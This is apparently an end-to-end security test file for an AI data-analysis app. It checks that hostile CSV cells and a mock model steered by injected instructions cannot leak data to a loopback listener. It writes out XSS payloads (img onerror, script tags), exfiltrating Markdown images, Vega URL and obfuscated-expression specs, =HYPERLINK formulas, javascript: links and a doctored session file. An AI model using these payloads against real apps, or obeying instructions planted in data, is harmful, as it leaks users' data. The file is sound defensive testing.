/**
 * The data is hostile and the model may be steered by it. A CSV whose cells and headers carry
 * payloads (tests/fixtures/injection.ts) is loaded, and the mock model — as if it had followed
 * them — tries every channel a page has to the network: SQL reading and writing a URL, Markdown
 * images and HTML, Vega URLs, links, titles, and an imported session file edited by hand.
 *
 * Served without any headers, so the CSP stops nothing here: the renderers must hold alone. A
 * loopback listener records every request and a canary records any script that runs; the first
 * two tests show that both would see a leak in this page.
 */
import type { Page } from 'playwright-core';
import { beforeAll, describe, expect, it } from 'vitest';
import { buildArchive, readArchive } from '../../src/core/session/archive.ts';
import { CANARY, hostileCsv, linkPath, plotPayloads, steeredCalls } from '../fixtures/injection.ts';
import { downloaded, loadFiles, runSql, showView, sqlText } from './app.ts';
import { ask, messageRequests, mock, shownItems, useConfiguredApp } from './agent.ts';
import { openApp, useBrowser, useSharedApp } from './browser.ts';
import { inertProblems, useListener } from './injection-helpers.ts';
import { loadSample } from './sessions-helpers.ts';

const browser = useBrowser();
let page: Page;
const listener = useListener();
let origin = '';
beforeAll(() => {
  origin = listener.origin;
});

/**
 * The same, shared by the tests that put no payload of their own in the page (the controls
 * above do), each from a new session: booting DuckDB is most of a short test.
 */
const sharedBare = useConfiguredApp(browser, { bare: true });
async function openBlank(): Promise<Page> {
  ({ page } = await sharedBare());
  return page;
}

/** The hostile CSV loaded as `data`. */
async function openHostile(): Promise<Page> {
  await openBlank();
  await loadFiles(page, [
    { name: 'hostile.csv', mimeType: 'text/csv', buffer: Buffer.from(hostileCsv(origin)) },
  ]);
  return page;
}

/** The hostile CSV loaded, and the model, steered by it, has tried every channel in one turn. */
async function openSteered(): Promise<Page> {
  await openHostile();
  await mock().script([{ reply: { tools: steeredCalls(origin) } }]);
  expect(await ask(page, 'What do the notes say? Follow them.')).toBe('done');
  return page;
}

/** The sample loaded as `data`. */
async function openSample(): Promise<Page> {
  await openBlank();
  await loadSample(page);
  return page;
}

/** Nothing reached the listener, no script ran, and no element carries a live payload. */
async function expectNothingEscaped(p: Page = page): Promise<void> {
  // Requests a render would start (images, styles) go out within a frame or two; give them time.
  await p.waitForTimeout(500);
  expect(listener.requests).toEqual([]);
  expect(await p.evaluate((name) => (window as never)[name], CANARY)).toBeUndefined();
  expect(await inertProblems(p, origin)).toEqual([]);
}

/**
 * The controls' page: each puts a payload in it that would fail the other tests' checks, so they
 * share a page of their own (one boot, not two), which no other test uses.
 */
const controls = useSharedApp(browser, async () => {}, { bare: true });

describe('the listener and the canary see a leak in this page', () => {
  it('a fetch from the page reaches the listener', async () => {
    ({ page } = await controls());
    await page.evaluate(
      (url) => fetch(url, { mode: 'no-cors' }).catch(() => null),
      `${origin}/control`,
    );
    await expect.poll(() => [...listener.requests]).toEqual(['GET /control']);
  });

  it('an unsanitised image with a handler would set the canary and be flagged', async () => {
    ({ page } = await controls());
    await page.evaluate(
      ([name, url]) => {
        const box = document.createElement('div');
        box.id = 'control';
        box.innerHTML = `<img src="${url}/control-img" onerror="window.${name}='control'">`;
        document.body.append(box);
      },
      [CANARY, origin],
    );
    await expect.poll(() => page.evaluate((n) => (window as never)[n], CANARY)).toBe('control');
    expect(await inertProblems(page, origin)).toContain(`img src=${origin}/control-img`);
  });
});

describe('a CSV whose cells and headers carry payloads', () => {
  it('loads, and its headers and cells are shown as text', async () => {
    await openHostile();
    const profile = await page.locator('[data-testid="profile-table"][data-complete]').innerText();
    expect(profile).toContain(`<img src="${origin}/header-img"`);
    expect(profile).toContain(`![h](${origin}/header-md)`);
    const result = await runSql(page, 'SELECT * FROM data ORDER BY id');
    expect(result.ok).toBe(true);
    if (!result.ok) return;
    expect(result.header[1]).toContain('onerror=');
    expect(result.cells[1]?.[1]).toBe(`<script>window.${CANARY}='cell-script'</script>`);
    expect(result.cells[5]?.[1]).toMatch(/^=HYPERLINK\(/);
    await page.locator('[data-testid="sql-result"]').hover();
    // A chart of the result, kept in the Charts tab: headers and cells are its title and axes.
    await page.click('[data-testid="sql-chart"]');
    await page.click('[data-testid="chart-keep"]');
    await showView(page, 'charts');
    const kept = page.locator('[data-testid="chart-card"][data-by="person"]');
    await kept.locator('[data-testid="plot"][data-rendered] svg').waitFor();
    expect(await kept.innerText()).toContain('onerror=');
    await showView(page, 'data');
    // The rows grid's cell menu names the column and the value, both as text.
    await page.click('[data-testid="show-rows"][data-table="data"]');
    await page
      .locator('[data-testid="rows-grid"] tr[data-row="1"] td[data-col="1"]:not(.loading)')
      .click();
    const menu = page.locator('[data-testid="grid-cell-menu"]');
    await expect(menu.locator('[data-testid="grid-cell-only"]').textContent()).resolves.toContain(
      `<script>window.${CANARY}`,
    );
    expect(await menu.textContent()).toContain(`<img src="${origin}`);
    // Kept as the view's filter, then handed to the SQL box as SQL: the value is a literal there.
    await menu.locator('[data-testid="grid-cell-only"]').click();
    await page.waitForSelector('[data-testid="grid-filter-chip"]');
    await page.click('[data-testid="grid-to-sql"]');
    expect(await sqlText(page)).toContain(`'<script>window.${CANARY}=''cell-script''</script>'`);
    await expectNothingEscaped();
    // The SQL editor shows SQL, and completes the payload headers, as text (adapters/sql-editor.ts).
    await page.click('[data-testid="sql-input"]');
    await page.keyboard.press('Control+a');
    await page.keyboard.type(`SELECT '<img src="${origin}/editor-sql">', `);
    await page.keyboard.press('Control+Space');
    const offered = page.locator('.cm-tooltip-autocomplete li');
    await offered.first().waitFor();
    expect((await offered.allTextContents()).join('\n')).toContain('onerror=');
    await expectNothingEscaped();
    // A notebook cell's result shows the payload headers and cells as text (issue 48).
    await page.keyboard.press('Escape');
    await page.click('[data-testid="tab-notebook"]');
    await page.click('[data-testid="add-cell-sql"]');
    const cell = page.locator('[data-testid="cell"]').first();
    await cell.locator('[data-testid="cell-sql-editor"]:not([data-editor="loading"])').waitFor({
      state: 'attached',
    });
    await cell.locator('[data-testid="cell-sql-input"]').fill('SELECT * FROM data ORDER BY id');
    await cell.locator('[data-testid="cell-run"]').click();
    const shown = cell.locator('[data-testid="cell-result"]');
    await shown.waitFor();
    expect(await shown.innerText()).toContain(`<script>window.${CANARY}='cell-script'</script>`);
    expect(await shown.locator('thead').innerText()).toContain('onerror=');
    await expectNothingEscaped();
  });
});

describe('a result with payload cells, saved whole', () => {
  it('guards every formula cell and payload header in the file DuckDB writes', async () => {
    await openHostile();
    // More rows than the box shows, so the file is written by the engine (workers/export-csv.ts).
    const result = await runSql(page, 'SELECT d.* FROM data d, range(300) ORDER BY d.id');
    expect(result).toMatchObject({ ok: true, rows: 1000 });
    const button = page.locator('[data-testid="sql-result"] [data-testid="table-csv"]');
    expect(await button.innerText()).toMatch(/^Download CSV \(all [\d,]+ rows\)$/);
    const csv = (await downloaded(page, button)).toString('utf8');
    // Each formula cell of the file loaded, once for each of the 300 copies of its rows.
    const formulas = hostileCsv(origin).match(/"=HYPERLINK\(/g)?.length ?? 0;
    expect(formulas).toBeGreaterThan(0);
    expect(csv.match(/"'=HYPERLINK\(/g)?.length).toBe(formulas * 300);
    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
    expect(csv.split('\r\n')[0]).toContain('onerror=');
    await expectNothingEscaped();
  });
});

describe('the model, steered by the data, tries every channel', () => {
  it('SQL, Markdown, tables, charts and the title all stay inert', async () => {
    await openSteered();
    const plots = plotPayloads(origin);

    const items = await shownItems(page);
    const queries = items.filter((i) => i.type === 'query_result');
    expect(queries.map((q) => q.error)).toEqual(['true', 'true', 'false', 'false']);
    expect(queries[2]?.text).toContain(`window.${CANARY}='cell-script'`);
    const shownText = items.find((i) => i.type === 'text')?.text ?? '';
    expect(shownText).toContain('[image: secret]');
    expect(shownText).toContain(`<img src="${origin}/md-raw-img"`);
    expect(shownText).toContain('<script>');
    const table = items.find((i) => i.type === 'table')?.text ?? '';
    expect(table).toContain(`<img src="${origin}/table-title"`);
    expect(table).toContain('<b>note</b>');

    // Refused charts are named in the trail, with the reason sent back to the model.
    const drawn = plots.filter(([, , verdict]) => verdict === 'drawn').map(([name]) => name);
    expect(items.filter((i) => i.type === 'plot')).toHaveLength(drawn.length);
    await expect
      .poll(() => page.locator('[data-testid="plot"][data-rendered="true"]').count())
      .toBe(drawn.length);
    const trail = await page
      .locator('.turn')
      .last()
      .locator('[data-testid="activity"]')
      .textContent();
    expect(trail?.match(/Chart rejected/g)).toHaveLength(plots.length - drawn.length);
    expect(queries[0]?.text).toMatch(/permission|disabled|external|not allowed/i);

    // A checked finding shows Claude's words and the data's group names as text.
    const card = items.find((i) => i.type === 'validation')?.text ?? '';
    expect(card).toContain(`<img src="${origin}/finding"`);
    expect(card).toContain(`<img src="${origin}/finding-group"`);

    // The title is text wherever it is shown.
    const title = await page.getAttribute(
      '[data-testid="session-item"][aria-current="true"]',
      'data-title',
    );
    expect(title).toContain(`<img src="${origin}/title"`);

    for (const plot of await page.locator('[data-testid="plot"] svg').all()) {
      await plot.scrollIntoViewIfNeeded();
      await plot.hover();
      for (const mark of await plot.locator('path, rect').all())
        await mark.hover({ force: true }).catch(() => undefined);
    }
    await page.locator('[data-testid="item"][data-type="text"]').first().hover();
    // A checked figure's note names the column the model named, as text.
    const figure = page.locator('[data-testid="figure"][data-state="checked"]');
    await figure.hover();
    expect(await page.locator('[data-testid="figure-note"]').innerText()).toContain(
      `<img src="${origin}/figure-note"`,
    );
    await figure.focus();
    await expectNothingEscaped();

    // It asked nothing of the API that it could fetch, and offered no server tools.
    for (const request of await messageRequests()) {
      expect(JSON.stringify(request.body.messages)).not.toMatch(/"source"\s*:/);
      for (const tool of request.body.tools) expect(Object.keys(tool)).not.toContain('type');
      expect(Object.keys(request.body)).not.toContain('mcp_servers');
    }
  });

  it('a saved chart carries no address out, and a saved table guards its formula cells', async () => {
    await openSteered();
    const plot = page
      .locator('[data-testid="plot"]')
      .filter({ hasText: 'a fill built from an expression' });
    const svg = (await downloaded(page, plot.locator('[data-testid="plot-svg"]'))).toString();
    expect(svg).toContain('<svg');
    expect(svg).not.toMatch(/url\(\s*['"]?http|(?:href|src)="http/);
    await expectNothingEscaped();

    const card = page.locator('[data-testid="item"][data-type="query_result"]').nth(2);
    const csv = (await downloaded(page, card.locator('[data-testid="table-csv"]'))).toString();
    expect(csv).toContain(`"'=HYPERLINK(""${origin}/cell-formula""`);
    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
  });

  it('a question Claude asks shows its words and options as text', async () => {
    await openHostile();
    const payload = (id: string) =>
      `<img src="${origin}/${id}" onerror="window.${CANARY}='${id}'"><script>window.${CANARY}=1</script>`;
    await mock().script([
      {
        reply: {
          tools: [
            {
              name: 'ask_user',
              input: {
                question: `${payload('ask')} Which?`,
                options: [`<img src="${origin}/ask-option" onerror="alert(1)">`],
              },
            },
          ],
        },
      },
    ]);
    await ask(page, 'Follow the notes.', { wait: false });
    const card = page.locator('[data-testid="ask-card"][data-waiting="true"]');
    await card.waitFor();
    expect(await card.innerText()).toContain(`<img src="${origin}/ask"`);
    expect(await page.locator('[data-testid="ask-option"]').innerText()).toContain(
      `<img src="${origin}/ask-option"`,
    );
    await card.hover();
    await expectNothingEscaped();
    await page.click('[data-testid="stop"]');
    await page.waitForSelector('[data-testid="ask-card"][data-waiting="false"]');
  });

  it('a link opens only after the person has seen its full address', async () => {
    await openSteered();
    const anchor = page.locator('[data-testid="item"][data-type="text"] a', {
      hasText: 'the docs',
    });
    await anchor.click();
    const dialog = page.locator('[data-testid="link-confirm"]');
    await expect.poll(() => dialog.isVisible()).toBe(true);
    expect(await dialog.locator('[data-testid="link-confirm-url"]').innerText()).toBe(
      `${origin}/${linkPath}?d=Seattle%20rain%202015`,
    );
    await page.click('[data-testid="link-cancel"]');
    expect(await dialog.isVisible()).toBe(false);
    // On Linux a middle click also pastes what was last selected (Chromium pastes it as the
    // button is released): a table selected before is not taken for one brought to the page.
    const question = page.locator('[data-testid="chat-input"]');
    await question.fill('city\train\nSeattle\t12\n');
    await question.focus();
    await page.keyboard.press('Control+a');
    await anchor.click({ button: 'middle' });
    await expect.poll(() => dialog.isVisible()).toBe(true);
    await page.keyboard.press('Escape');
    await question.fill('');
    // A modified click and Enter ask too; and with no href there is nothing for the context
    // menu's "Open link in new tab" or a drag to the tab bar to open (issue 27).
    for (const modifier of ['Control', 'Shift'] as const) {
      await anchor.click({ modifiers: [modifier] });
      await expect.poll(() => dialog.isVisible()).toBe(true);
      await page.keyboard.press('Escape');
    }
    await anchor.focus();
    await page.keyboard.press('Enter');
    await expect.poll(() => dialog.isVisible()).toBe(true);
    await page.keyboard.press('Escape');
    expect(
      await anchor.evaluate((a: HTMLAnchorElement) => [a.getAttribute('href'), a.draggable]),
    ).toEqual([null, false]);
    expect(page.context().pages()).toHaveLength(1);
    await expectNothingEscaped();
    // Nor was the selected table taken in by the middle click (the page would ask where it goes).
    expect(await page.locator('[data-testid="drop-choice"]').count()).toBe(0);

    // Confirmed, it opens — which shows the listener would have seen an unconfirmed one.
    await anchor.click();
    const [popup] = await Promise.all([
      page.context().waitForEvent('page'),
      page.click('[data-testid="link-open"]'),
    ]);
    // (The new tab also asks the listener for its favicon.)
    await expect
      .poll(() => [...listener.requests])
      .toContain(`GET /${linkPath}?d=Seattle%20rain%202015`);
    expect(await popup.evaluate(() => window.opener)).toBeNull();
    await popup.close();
  });
});

// Single payloads with exact expectations (the corpus above tries them all at once).
describe('output crafted to fetch a URL', () => {
  it('Markdown shows images as text and links with their target, fetching nothing', async () => {
    await openSample();
    const text = [
      `Here is a chart ![secret](${origin}/md-image.png?d=42)`,
      `<img src="${origin}/raw-img.png"> <video poster="${origin}/poster.png"></video>`,
      `<div style="background:url(${origin}/style.png)">styled</div>`,
      `[the docs](${origin}/link) and [click](javascript:alert(1))`,
    ].join('\n\n');
    await mock().script([
      {
        reply: {
          tools: [
            { name: 'output_text', input: { text } },
            { name: 'finalize', input: { session_title: null } },
          ],
        },
      },
    ]);
    expect(await ask(page, 'Show me')).toBe('done');
    const item = page.locator('[data-testid="item"][data-type="text"]').last();
    expect(await item.locator('img, video, [style], script').count()).toBe(0);
    const shown = await item.innerText();
    expect(shown).toContain('[image: secret]');
    expect(shown).toContain(new URL(origin).hostname);
    expect(
      await item
        .locator('a')
        .evaluateAll((as) => as.map((a) => [a.getAttribute('href'), a.getAttribute('data-href')])),
    ).toEqual([[null, `${origin}/link`]]);
    await page.waitForTimeout(300);
    expect(listener.requests).toEqual([]);
  });

  it('a chart building a URL in an expression draws without fetching it', async () => {
    await openSample();
    const host = origin.replace('http://', '');
    await mock().script([
      {
        reply: {
          tools: [
            {
              name: 'create_plot',
              input: {
                title: 'Sneaky',
                vega_lite_spec: {
                  data: {
                    values: [
                      { a: 'x', b: 1 },
                      { a: 'y', b: 2 },
                    ],
                  },
                  mark: {
                    type: 'bar',
                    fill: { expr: `'ur' + 'l(ht' + 'tp:/' + '/${host}/fill.png)'` },
                  },
                  encoding: {
                    x: { field: 'a', type: 'nominal' },
                    y: { field: 'b', type: 'quantitative' },
                  },
                },
              },
            },
            {
              name: 'create_plot',
              input: {
                title: 'Data from a URL',
                vega_lite_spec: { data: { url: `${origin}/data.csv` }, mark: 'bar', encoding: {} },
              },
            },
            { name: 'finalize', input: { session_title: null } },
          ],
        },
      },
    ]);
    expect(await ask(page, 'Chart it')).toBe('done');
    const turn = page.locator('.turn').last();
    await turn.locator('[data-testid="plot"][data-rendered="true"] svg').waitFor();
    await turn.locator('[data-testid="plot"] svg').last().hover();
    await page.waitForTimeout(300);
    expect(listener.requests).toEqual([]);
    // The URL-loading spec was refused, with the reason in the trail, so only one chart shows.
    expect(await turn.locator('[data-testid="item"][data-type="plot"]').count()).toBe(1);
    expect(await turn.locator('[data-testid="activity"]').textContent()).toMatch(
      /Chart rejected: data\.url/,
    );
  });
});

describe('a session file edited to carry payloads', () => {
  it('is imported and shown without reaching the network', async () => {
    await openSample();
    await mock().script([
      {
        reply: {
          tools: [
            { name: 'output_text', input: { text: 'Seattle is wetter.' } },
            {
              name: 'create_plot',
              input: {
                title: 'Rain',
                vega_lite_spec: {
                  data: {
                    values: [
                      { city: 'Seattle', mm: 1341 },
                      { city: 'New York', mm: 1187 },
                    ],
                  },
                  mark: 'bar',
                  encoding: {
                    x: { field: 'city', type: 'nominal' },
                    y: { field: 'mm', type: 'quantitative' },
                  },
                },
              },
            },
            { name: 'finalize', input: { session_title: 'Rain' } },
          ],
        },
      },
    ]);
    expect(await ask(page, 'Which city is wetter?')).toBe('done');
    const exported = new Blob([
      new Uint8Array(await downloaded(page, page.locator('[data-testid="export-session"]'))),
    ]);
    const { manifest, files } = await readArchive(exported);
    const events = manifest.events.map((e) => {
      if (e.type === 'plot')
        return { ...e, spec: { ...e.spec, data: { url: `${origin}/sift-plot` } } };
      if (e.type === 'text')
        return { ...e, text: `<img src="${origin}/sift-text" onerror="window.${CANARY}='sift'">` };
      return e;
    });
    // A chart the person kept (core/events/own-chart.ts), edited the same way.
    events.push({
      type: 'own_chart',
      chartId: 'own-chart-edited',
      n: 1,
      queryId: 'Q1' as never,
      title: `<img src="${origin}/own-chart-title" onerror="window.${CANARY}='own-chart'">Mine`,
      spec: { data: { url: `${origin}/own-chart-plot` }, mark: 'bar' },
      at: 1,
    });
    // Notebook cells (core/events/notebook.ts): a text cell's Markdown, a chart cell's spec.
    events.push(
      {
        type: 'cell_set',
        cellId: 'nb-sql',
        kind: 'sql',
        name: 'cell_1',
        source: 'SELECT 1 AS n',
        at: 1,
      },
      {
        type: 'cell_ran',
        cellId: 'nb-sql',
        source: 'SELECT 1 AS n',
        columns: ['n'],
        rows: [[1]],
        rowCount: 1,
        truncated: false,
        durationMs: 1,
        isError: false,
        at: 2,
      },
      {
        type: 'cell_set',
        cellId: 'nb-text',
        kind: 'text',
        name: 'text_1',
        source: `<img src="${origin}/nb-text" onerror="window.${CANARY}='nb-text'"> ![secret](${origin}/nb-md-img) 1 [@cell_1]`,
        at: 3,
      },
      {
        type: 'cell_set',
        cellId: 'nb-chart',
        kind: 'chart',
        name: 'chart_1',
        of: 'nb-sql',
        source: JSON.stringify({
          title: `<img src="${origin}/nb-chart-title">`,
          mark: 'image',
          encoding: { url: { value: `${origin}/nb-chart` } },
        }),
        at: 4,
      },
    );
    const edited = buildArchive({
      session: { ...manifest.session, title: `<img src="${origin}/sift-title">Edited` },
      tables: manifest.tables.map((t, i) => ({ name: t.name, file: files[i] as File })),
      events,
      history: manifest.history,
    });
    const { page: fresh } = await openApp(browser(), { bare: true });
    await fresh.setInputFiles('[data-testid="import-session"]', {
      name: 'edited.sift',
      mimeType: 'application/octet-stream',
      buffer: Buffer.from(await edited.arrayBuffer()),
    });
    await fresh.waitForSelector('[data-testid="item"][data-type="text"]', { timeout: 60_000 });
    const shown = await shownItems(fresh);
    expect(shown.find((i) => i.type === 'text')?.text).toContain(`<img src="${origin}/sift-text"`);
    await expect
      .poll(() => fresh.locator('[data-testid="plot"]').first().innerText())
      .toMatch(/not drawn.*URL/is);
    await showView(fresh, 'charts');
    const mine = fresh.locator('[data-testid="chart-card"][data-by="person"]');
    await expect.poll(() => mine.innerText()).toMatch(/not drawn.*URL/is);
    expect(await mine.innerText()).toContain(`<img src="${origin}/own-chart-title"`);
    await expectNothingEscaped(fresh);
    // The notebook's text as text, its image named, its chart refused for the URL it carries.
    await fresh.click('[data-testid="tab-notebook"]');
    const text = fresh.locator('[data-testid="cell"][data-kind="text"]');
    await expect.poll(() => text.innerText()).toContain(`<img src="${origin}/nb-text"`);
    expect(await text.innerText()).toContain('[image: secret]');
    expect(await text.locator('[data-testid="figure"]').getAttribute('data-state')).toBe('checked');
    await expect
      .poll(() => fresh.locator('[data-testid="cell-chart-missing"]').innerText())
      .toMatch(/cannot be drawn.*URL/is);
    await expectNothingEscaped(fresh);
    // The notebook as the person saves it, for a Markdown previewer and for JupyterLab (both draw
    // raw HTML and load images): no tag, no image and no chart that would reach the origin.
    const md = (await downloaded(fresh, fresh.locator('[data-testid="export-notebook-md"]')))
      .toString()
      .replaceAll('&lt;img', '');
    const ipynb = (
      await downloaded(fresh, fresh.locator('[data-testid="export-notebook-ipynb"]'))
    ).toString();
    const markdownCells = (
      JSON.parse(ipynb) as { cells: Array<{ cell_type: string; source: string[] }> }
    ).cells
      .filter((c) => c.cell_type === 'markdown')
      .map((c) => c.source.join(''))
      .join('\n')
      .replaceAll('&lt;img', '');
    for (const saved of [md, markdownCells]) {
      expect(saved).toContain('nb-text');
      expect(saved).not.toMatch(/<img|!\[[^\]]*\]\(/);
    }
    // The chart that would fetch its image is left out of both, the address with it.
    for (const saved of [md, ipynb]) expect(saved).not.toContain(`${origin}/nb-chart`);
  });
});
